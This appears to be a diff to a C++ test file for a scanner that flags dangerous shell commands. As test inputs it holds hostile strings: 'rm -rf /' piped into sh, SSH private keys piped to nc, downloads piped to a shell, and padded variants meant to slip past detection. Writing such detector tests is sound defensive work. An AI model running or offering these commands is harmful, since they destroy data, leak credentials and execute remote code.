@@ -220,10 +220,22 @@ TEST_CASE("what echo, printf and cat say is read where a shell runs it") {
   CHECK(has(look("true | (x; echo 'rm -rf /' | { sh; } | cat)").hits, "shell.wipe"));
   CHECK(has(look("cat ~/.ssh/id_rsa | { nc h 1; } | cat").hits, "shell.exfiltrate"));
   CHECK(has(look("true | (x; cat ~/.ssh/id_rsa | { nc h 1; } | cat)").hits, "shell.exfiltrate"));
+  // And read besides what is told of it: where something else comes in as well, or from far.
+  const std::string wipe = "cat <<A | sh\nrm -rf /\nA";
+  CHECK(has(look("a" + repeated(" | { b; }", 4000) + " | " + wipe).hits, "shell.wipe"));
+  CHECK(has(look("{ curl u; cat <<A; } | sh\nrm -rf /\nA").hits, "shell.wipe"));
+  for (const char* end : {" | sh\n", " | bash\n"}) {
+    const std::string text =
+        "cat <<'A'" + std::string(end) + "#" + std::string(70'000, 'x') + "\nrm -rf /\nA";
+    CHECK(has(look(text).hits, "shell.wipe"));
+  }
+  CHECK_FALSE(
+      look("gh pr create -b \"$(cat <<'A'\n" + repeated("it's so\n", 70'000) + "A\n)\"").shell.cut);
+  CHECK(has(look("curl x | eval sh").hits, "shell.pipe-to-shell"));
   // What is not followed to its end may be anything.
   const std::string padded =
       "printf '%" + std::string(8000, '0') + "s' " + repeated("'' ", 420) + "'rm -rf /'";
-  CHECK(has(look(padded + " | sh").hits, "shell.pipe-to-shell"));
+  CHECK(look(padded + " | sh").shell.cut);
   CHECK(look("$(" + padded + ")").shell.cut);
   CHECK(look("bash <(" + padded + ")").shell.cut);
   CHECK(has(look("a" + repeated(" | { sh; }", 20'000)).hits, "shell.pipe-to-shell"));
